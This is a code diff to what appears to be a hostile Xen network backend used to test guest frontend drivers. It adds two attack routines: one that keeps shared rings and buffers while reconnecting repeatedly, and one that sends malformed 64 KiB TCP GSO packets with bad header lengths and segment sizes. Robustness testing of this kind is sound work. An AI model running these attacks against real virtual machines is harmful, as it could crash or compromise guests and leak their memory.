@@ -16,6 +16,7 @@
 #include <xen/events.h>
 
 #include "backend.h"
+#include "tcp.h"
 
 #define REQUEST_TIMEOUT	(60 * HZ)
 #define FRAME		1000	/* a frame that isn't copied: see RX_COPY_SIZE */
@@ -400,6 +401,42 @@ static void rx_keeps_all(struct evil *e)
 	snprintf(e->report, sizeof(e->report), "; kept %u", e->nr_kept);
 }
 
+/*
+ * It keeps the rings and all buffers, and goes; and comes again for others, as
+ * often as the frontend lets it.
+ */
+static void keeps_and_goes(struct evil *e)
+{
+	struct xen_netif_rx_request req;
+	unsigned int i, times;
+
+	for (times = 1; times < 12; times++) {
+		/* The frontend gives all buffers at once. */
+		while (next_rx(e, &req) && keep(e, req.gref))
+			if (READ_ONCE(e->rx.sring->req_prod) == e->rx.req_cons)
+				break;
+		for (i = 0; i < ARRAY_SIZE(e->ring); i++) {
+			noxs_channel_free(&e->ch[i], e);
+			if (e->nr_kept < EVIL_KEPT)
+				e->kept[e->nr_kept++] = e->ring[i];
+			e->ring[i].addr = NULL;
+		}
+		evil_publish(e, NOXS_STATE_INITIALISING);
+		evil_wait_until(e, NOXS_STATE_CONNECTED, false);
+		e->half.hdr.epoch++;
+		evil_publish(e, NOXS_STATE_INIT_WAIT);
+		evil_wait_until(e, NOXS_STATE_CONNECTED, true);
+		if (evil_frontend_state(e) != NOXS_STATE_CONNECTED)
+			break;
+		e->peer = e->page->frontend;
+		if (evil_vif_connect(e))
+			break;
+		evil_publish(e, NOXS_STATE_CONNECTED);
+	}
+	snprintf(e->report, sizeof(e->report), "; connected %u times, kept %u",
+		 times, e->nr_kept);
+}
+
 /* These cost a packet, no more. */
 
 static void report_taken(struct evil *e)
@@ -550,6 +587,46 @@ static void rx_headers(struct evil *e)
 	report_taken(e);
 }
 
+/*
+ * TCP packets of 64 KiB with all that there must be: one that is good, and some
+ * that are to be cut into too many segments, or have headers that are too short.
+ */
+static void rx_gso(struct evil *e)
+{
+	static const struct {
+		u8 ihl;
+		u8 doff;
+		u16 gso_size;
+	} packets[] = {
+		{ 5, 5, 1448 },
+		{ 5, 5, 1 }, { 5, 5, 31 }, { 4, 5, 1448 }, { 5, 4, 1448 },
+		{ 5, 0, 1448 },
+	};
+	struct xen_netif_rx_request req[GSO_SLOTS + 1];
+	unsigned int i, slot;
+	struct noxs_map map;
+
+	for (i = 0; i < ARRAY_SIZE(packets); i++) {
+		if (!take_rx(e, req, ARRAY_SIZE(req)) ||
+		    noxs_map_page(e->ndev, req[0].gref, &map))
+			return;
+		tcp_headers(map.addr, be(e)->mac, packets[i].ihl,
+			    packets[i].doff);
+		noxs_unmap_page(&map);
+		answer_rx(e, req[0].id, 0, XEN_NETRXF_extra_info |
+			  XEN_NETRXF_csum_blank | XEN_NETRXF_data_validated |
+			  XEN_NETRXF_more_data, GSO_SLOT);
+		extra_rx(e, XEN_NETIF_EXTRA_TYPE_GSO, 0, packets[i].gso_size,
+			 XEN_NETIF_GSO_TYPE_TCPV4);
+		for (slot = 1; slot < GSO_SLOTS; slot++)
+			answer_rx(e, req[slot + 1].id, 0,
+				  slot < GSO_SLOTS - 1 ? XEN_NETRXF_more_data :
+							 0, GSO_SLOT);
+		push_rx(e);
+	}
+	report_taken(e);
+}
+
 static void rx_noise(struct evil *e)
 {
 	struct xen_netif_rx_request req;
@@ -608,6 +685,7 @@ const struct evil_attack evil_vif_attacks[] = {
 	RINGS(tx_id_free), RINGS(tx_no_extra),
 	RINGS(rx_id_wrong), RINGS(rx_id_large), RINGS(rx_more_endless),
 	RINGS(rx_extras_endless), RINGS(rx_kept), RINGS(rx_keeps_all),
+	RINGS(keeps_and_goes), RINGS(rx_gso),
 	RINGS(tx_status), RINGS(rx_sizes),
 	RINGS(rx_slots), RINGS(rx_extras), RINGS(rx_headers), RINGS(rx_noise),
 	RINGS(rx_look),
